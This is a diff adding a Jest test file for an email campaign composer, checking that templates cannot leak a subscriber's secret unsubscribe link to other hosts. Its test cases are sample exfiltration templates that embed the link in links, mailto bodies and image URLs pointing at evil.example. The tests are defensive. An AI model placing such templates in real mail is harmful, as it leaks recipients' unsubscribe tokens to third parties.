@@ -1,0 +1,58 @@
+import { describe, expect, it } from '@jest/globals';
+
+import { UnsubscribeLinks } from '../../waitlist/index.js';
+import { HtmlCampaignComposer } from './html-campaign-composer.js';
+
+class FixedLinks extends UnsubscribeLinks {
+  urlFor = () => 'https://ours.example/api/unsubscribe/SECRET';
+  isSample = () => false;
+  read = () => null;
+}
+const composer = new HtmlCampaignComposer(
+  { appUrl: 'https://ours.example' } as ConstructorParameters<typeof HtmlCampaignComposer>[0],
+  new FixedLinks(),
+);
+const compose = (content: string, subject = 'Hi') =>
+  composer.compose(
+    {
+      campaignId: 'c',
+      subject,
+      content,
+      ideaId: 'i',
+      ideaTitle: 'Quiet Hours',
+      ideaSlug: 'quiet-hours',
+      founderEmail: 'ada@example.com',
+    },
+    'subscriber',
+  );
+/** Addresses that a mail program would load or follow: those of attributes, and what looks like one in words. */
+const addressesIn = (text: string) => text.match(/(?:https?:|mailto:)[^\s"'<>\]]+/g) ?? [];
+const foreign = (text: string) => addressesIn(text).filter((one) => !one.startsWith('https://ours.example/'));
+
+describe('a stored mail that hands the unsubscribe link to others', () => {
+  it.each([
+    '<p><a href="https://evil.example/?u={{unsubscribeUrl}}">x</a></p>',
+    '<p><a href="mailto:me@evil.example?body={{unsubscribeUrl}}">x</a></p>',
+    '<p><img src="https://evil.example/{{unsubscribeUrl}}.png" alt="{{unsubscribeUrl}}">x</p>',
+    '<p>https://evil.example/?u={{unsubscribeUrl}}</p>',
+    '<p>https://evil.example/?u=<b>{{unsubscribeUrl}}</b></p>',
+    '<p><a href="https://evil.example/">https://evil.example/{{unsubscribeUrl}}</a></p>',
+  ])('does so no more: %s', (content) => {
+    const { html, text } = compose(content);
+    for (const part of [html, text]) {
+      expect(foreign(part).filter((address) => address.includes('SECRET'))).toEqual([]);
+      expect(part).not.toContain('{{unsubscribeUrl}}');
+    }
+  });
+
+  it('keeps it in the subject to itself', () => {
+    expect(compose('<p>x</p>', 'Leave {{unsubscribeUrl}}').subject).toBe('Leave');
+  });
+});
+
+it('fills in what is the whole address of a link, and what stands in words', () => {
+  const { html, text } = compose('<p><a href="{{unsubscribeUrl}}">Leave</a> ({{unsubscribeUrl}})</p>');
+  expect(html).toMatch(/<a href="https:\/\/ours\.example\/api\/unsubscribe\/SECRET"[^>]*>Leave<\/a>/);
+  expect(html).toContain('(https://ours.example/api/unsubscribe/SECRET)');
+  expect(text).toContain('Leave [https://ours.example/api/unsubscribe/SECRET]');
+});
